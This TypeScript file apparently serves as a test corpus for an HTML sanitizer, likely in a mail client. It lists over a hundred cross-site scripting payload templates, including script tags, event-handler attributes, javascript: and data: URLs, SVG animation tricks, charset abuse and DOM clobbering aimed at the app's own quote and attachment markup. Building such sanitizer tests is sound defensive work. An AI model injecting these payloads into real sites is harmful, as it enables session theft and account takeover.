import type { Attempt } from './vector.ts'

const base64 = (text: string) => Buffer.from(text).toString('base64')

const SCRIPTS: Attempt['html'][] = [
  (js) => `<script>${js}</script>`,
  (js) => `<SCRIPT>${js}</SCRIPT>`,
  (js) => `<script x>${js}</script x>`,
  (js) => `<script/x>${js}</script/x>`,
  (js) => `<script type=module>${js}</script>`,
  (js) => `<script type=text/javascript defer>${js}</script>`,
  (js) => `<script language=javascript>${js}</script>`,
  (js) => `<script src="data:text/javascript,${js}"></script>`,
  (js) => `<script src="data:;base64,${base64(js)}"></script>`,
  (js) => `<script>/*</script>*/${js}</script>`,
  (js) => `<script><!--\n${js}\n--></script>`,
  (js) => `<script\n>${js}</script\n>`,
  (js) => `<script\u0000>${js}</script>`,
  (js) => `<script>${js}`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><script href="data:text/javascript,${js}"></script></svg>`,
  (js) => `<svg><script xlink:href="data:text/javascript,${js}" /></svg>`,
  (js) => `<svg><script>${js.replace('(', '&lpar;')}</script></svg>`,
  (js) => `<math><script>${js}</script></math>`,
  (js) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${js}</x:script>`,
  (js) => `<template shadowrootmode=open><script>${js}</script></template>`,
  (js) => `<div><template shadowrootmode=open><img src=x onerror=${js}></template></div>`,
  (js) =>
    `<script type=importmap>{"imports":{"x":"data:text/javascript,${js}"}}</script><script type=module>import "x"</script>`,
  (js) => `<script type=speculationrules>{"prerender":[{"urls":["javascript:${js}"]}]}</script>`,
]

const FRAMES: Attempt['html'][] = [
  (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  (js) => `<iframe srcdoc="&lt;img src=x onerror=${js}&gt;"></iframe>`,
  (js) => `<iframe srcdoc="&amp;lt;script>${js}&amp;lt;/script>"></iframe>`,
  (js) => `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>${js}</script>"></iframe>`,
  (js) => `<iframe onload=${js}></iframe>`,
  (js) => `<iframe name="${js}" src="javascript:eval(name)"></iframe>`,
  (js) => `<object onerror=${js} data=x></object>`,
  (js) => `<object type=text/html data="data:text/html;base64,${base64(`<script>${js}</script>`)}"></object>`,
  (js) => `<object classid="clsid:x"><param name=src value="javascript:${js}"></object>`,
  (js) =>
    `<embed src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"/>`)}" type="image/svg+xml">`,
  (js) => `<embed code="javascript:${js}" onload=${js} src=about:blank>`,
  (js) => `<applet code="javascript:${js}" onerror=${js}></applet>`,
  (js) => `<portal src="javascript:${js}" onload=${js}></portal>`,
  (js) => `<fencedframe onload=${js}></fencedframe>`,
  (js) => `<link rel=stylesheet href="data:text/css,x" onload=${js}>`,
  (js) => `<link rel=import href="data:text/html,<script>${js}</script>">`,
  (js) => `<link rel=stylesheet href="javascript:${js}">`,
  (js) => `<style onload=${js}></style>`,
  (js) =>
    `<style>@import "javascript:${js}";*{background:url("javascript:${js}");behavior:url(#default#time2)}</style>`,
  (js) => `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${js}></b>`,
  (js) =>
    `<style>@keyframes y{from{color:red}}:focus{animation:y 1ms}</style><input autofocus onfocus=${js} onanimationend=${js}>`,
  (js) => `<svg><style>*{animation:z 1ms}@keyframes z{}</style><g onanimationend=${js}>x</g></svg>`,
  (js) => `<div style="width:expression(${js});-moz-binding:url(data:text/xml,x);behavior:url(x)">x</div>`,
  (js) => `<div style="background:url(javascript:${js});list-style:url('javascript:${js}')">x</div>`,
  (js) =>
    `<xss style="transition:outline 1s;outline:1px solid" tabindex=1 ontransitionend=${js} onfocus=${js} autofocus>x</xss>`,
]

const SVG: Attempt['html'][] = [
  (js) => `<svg onload=${js}>`,
  (js) => `<svg><svg onload=${js}></svg></svg>`,
  (js) => `<svg><g onload=${js}></g></svg>`,
  (js) => `<svg><image href=x onerror=${js} /></svg>`,
  (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s></svg>`,
  (js) => `<svg><set onbegin=${js} attributeName=x to=1></svg>`,
  (js) => `<svg><animateTransform onbegin=${js} attributeName=transform dur=1s></svg>`,
  (js) =>
    `<svg><a id=l><animate xlink:href=#l attributeName=href values="javascript:${js}" /><text y=20>x</text></a></svg>`,
  (js) =>
    `<svg><a><animate attributeName=href to="javascript:${js}" begin=0s fill=freeze /><text y=20>x</text></a></svg>`,
  (js) => `<svg><a><set attributeName=xlink:href to="javascript:${js}" /><text y=20>x</text></a></svg>`,
  (js) =>
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${js}'/></svg>#x"/></svg>`,
  (js) => `<svg><foreignObject><iframe srcdoc="<script>${js}</script>"></iframe></foreignObject></svg>`,
  (js) => `<svg><discard onbegin=${js}></svg>`,
  (js) => `<svg><handler type="application/ecmascript">${js}</handler><listener event=load handler=#h></svg>`,
  (js) =>
    `<svg xmlns:x="http://www.w3.org/1999/xlink"><a x:href="javascript:${js}"><rect width=100 height=100></a></svg>`,
  (js) => `<svg><style>{font-family:'<iframe/onload=${js}>'}</style></svg>`,
  (js) => `<math><maction actiontype=statusline xlink:href="javascript:${js}">x</maction></math>`,
  (js) => `<math><mi xlink:href="data:text/html,<script>${js}</script>">x</mi></math>`,
]

const CLASSIC: Attempt['html'][] = [
  (js) => `<body onload=${js} onpageshow=${js} onhashchange=${js} background=x>`,
  (js) => `<img src=x onerror=${js}>`,
  (js) => `<image src=x onerror=${js}>`,
  (js) => `<img src=x srcset=x onerror=${js} loading=lazy>`,
  (js) => `<picture><source srcset=x><img onerror=${js}></picture>`,
  (js) => `<audio src=x onerror=${js}></audio>`,
  (js) => `<video><source src=x onerror=${js}></video>`,
  (js) => `<video poster=x onloadstart=${js} src=x></video>`,
  (js) => `<track default src=x onerror=${js}>`,
  (js) => `<input type=image src=x onerror=${js}>`,
  (js) => `<input autofocus onfocus=${js}>`,
  (js) => `<select autofocus onfocus=${js}><option>x</select>`,
  (js) => `<textarea autofocus onfocus=${js}></textarea>`,
  (js) => `<div contenteditable autofocus onfocus=${js}>x</div>`,
  (js) => `<b id=f tabindex=1 onfocus=${js}>x</b>`,
  (js) => `<details open ontoggle=${js}><summary>x</summary></details>`,
  (js) => `<div popover=auto id=pop onbeforetoggle=${js}>x</div><button popovertarget=pop>x</button>`,
  (js) =>
    `<button command=show-modal commandfor=d>x</button><dialog id=d oncommand=${js} onbeforetoggle=${js}>x</dialog>`,
  (js) => `<marquee onstart=${js} loop=1>x</marquee>`,
  (js) => `<keygen autofocus onfocus=${js}>`,
  (js) => `<isindex type=image src=x onerror=${js} action="javascript:${js}">`,
  (js) => `<bgsound src="javascript:${js}" onerror=${js}>`,
  (js) => `<table><td background="javascript:${js}"><img dynsrc="javascript:${js}" lowsrc="javascript:${js}">`,
  (js) => `<input type=hidden oncontentvisibilityautostatechange=${js} style=content-visibility:auto>`,
  (js) => `<b style=content-visibility:auto oncontentvisibilityautostatechange=${js}>x</b>`,
  (js) => `<meter onclick=${js}>x</meter><progress onclick=${js}>x</progress>`,
  (js) => `<a href="#" onclick=${js} download>x</a>`,
  (js) => `<p accesskey=x onclick=${js}>x</p>`,
  (js) => `<label for=c>x</label><input id=c onclick=${js} type=checkbox>`,
  // The house's own marks, turned against it.
  (js) => `<div data-quote="quote&quot;><img src=x onerror=${js}>">x</div>`,
  (js) => `<div data-quote=quote><summary onclick=${js}>x</summary><details open ontoggle=${js}>x</details></div>`,
  (js) => `<table data-quote=quote><tr data-quote=forward><td data-quote=signature><img src=x onerror=${js}></table>`,
  (js) => `<img data-remote-src='https://x.example/&quot; onerror=&quot;${js}'>`,
  (js) => `<img data-remote-src="https://x.example/'><img src=x onerror=${js}>">`,
  (js) => `<img src='cid:x&quot; onerror=&quot;${js}' data-cid='&quot;><img src=x onerror=${js}>'>`,
  (js) => `<img src="/api/v1/attachments/x&quot; onerror=&quot;${js}" alt='"><img src=x onerror=${js}>'>`,
  // Names that would hide what the desk asks the frame's document for.
  (js) => `<form name=documentElement><input name=body></form><img name=body src=x onerror=${js}>`,
  (js) =>
    `<form id=defaultView><input name=addEventListener></form><iframe name=contentDocument srcdoc="<img src=x onerror=${js}>"></iframe>`,
]

const ALONE: Attempt['html'][] = [
  (js) => `<frameset onload=${js}><frame src="javascript:${js}"></frameset>`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (js) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>${js}</script>">`,
  (js) => `<meta http-equiv=Content-Security-Policy content="script-src * 'unsafe-inline'"><img src=x onerror=${js}>`,
  (js) => `<meta charset=utf-7>+ADw-script+AD4-${js}+ADw-/script+AD4-`,
  (js) => `<meta charset=iso-2022-jp><a title="\u001b$B" x="\u001b(B"><img src=x onerror=${js}></a>`,
  (js) => `<base href="javascript:/${js}/"><a href="//%0a${js}">x</a>`,
  (js) => `<html onmouseover=${js}><head onclick=${js}></head><body onload=${js}>x</body></html>`,
  (js) => `<?xml version="1.0"?><?xml-stylesheet href="javascript:${js}"?><x onclick=${js}>x</x>`,
]

export const elementAttempts: Attempt[] = [
  ...SCRIPTS.map((html) => ({ family: 'script element', html })),
  ...FRAMES.map((html) => ({ family: 'frame or style', html })),
  ...SVG.map((html) => ({ family: 'svg or math', html })),
  ...CLASSIC.map((html) => ({ family: 'classic', html })),
  ...ALONE.map((html) => ({ family: 'document', alone: true, html })),
]
